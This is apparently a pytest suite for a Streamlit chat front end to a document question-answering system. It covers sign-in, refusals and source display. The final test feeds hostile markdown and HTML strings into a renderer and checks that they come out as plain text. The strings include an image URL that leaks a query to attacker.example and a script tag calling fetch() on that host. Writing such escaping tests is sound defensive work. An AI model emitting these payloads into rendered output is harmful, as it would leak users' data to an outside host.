"""The chat page, run headless by Streamlit's AppTest against the real index and LLM server."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
import streamlit as st
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from retrieval.users import UserDirectory
from settings import PROJECT_ROOT, Settings
from ui.safe import literal_markdown

APP = str(PROJECT_ROOT / "ui" / "app.py")


@pytest.fixture
def app_env(ingested: Settings, monkeypatch: pytest.MonkeyPatch) -> Iterator[Settings]:
    monkeypatch.setenv("RAG_DATA_DIR", str(ingested.data_dir))
    users = UserDirectory(ingested.users_path)
    users.add("erika", "erika-password", ["staff"])
    users.close()
    st.cache_resource.clear()
    yield ingested
    st.cache_resource.clear()


def signed_in(at: AppTest, password: str = "erika-password") -> AppTest:
    at.run(timeout=60)
    inputs = {widget.label: widget for widget in at.text_input}
    inputs["Username"].input("erika")
    inputs["Password"].input(password)
    next(b for b in at.button if b.label == "Sign in").click()
    return at.run(timeout=120)


def page_text(at: AppTest) -> str:
    return "\n".join(m.value for m in at.markdown) + "\n".join(e.label for e in at.expander)


def test_only_the_sign_in_form_shows_before_signing_in(app_env: Settings) -> None:
    at = AppTest.from_file(APP)
    at.run(timeout=60)
    assert [w.label for w in at.text_input] == ["Username", "Password"]
    assert [b.label for b in at.button] == ["Sign in"]
    assert len(at.chat_input) == 0


def test_a_wrong_password_is_refused(app_env: Settings) -> None:
    at = signed_in(AppTest.from_file(APP), password="not-the-password")
    assert [e.value for e in at.error] == ["Unknown username or wrong password."]
    assert len(at.chat_input) == 0


@pytest.mark.integration
def test_a_question_gets_a_streamed_answer_with_its_source(
    app_env: Settings, llm_settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RAG_LLM__PORT", str(llm_settings.llm.port))
    at = signed_in(AppTest.from_file(APP))
    at.chat_input[0].set_value("What is the approved budget of the Harbour Renovation Project?")
    at.run(timeout=180)
    text = page_text(at)
    assert "4,750,000" in text
    assert any("harbour-renovation-memo.png" in e.label for e in at.expander)


def test_an_unanswerable_question_is_refused_with_the_closest_passages(
    app_env: Settings,
) -> None:
    at = signed_in(AppTest.from_file(APP))
    at.chat_input[0].set_value("Who won the football world cup in 2014?")
    at.run(timeout=120)
    assert "I cannot find the answer in the documents" in page_text(at)


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](http://attacker.example/leak?q=secret)",
        "[click](http://attacker.example/) <img src=http://attacker.example/p.png>",
        "<script>fetch('http://attacker.example')</script> **bold**",
        "<http://attacker.example/autolink>",
    ],
)
def test_document_text_renders_as_text_never_as_links_or_images(hostile: str) -> None:
    html = MarkdownIt("commonmark").render(literal_markdown(hostile))
    assert "<img" not in html and "<a " not in html and "<script" not in html
    assert "attacker.example" in html  # shown, as characters
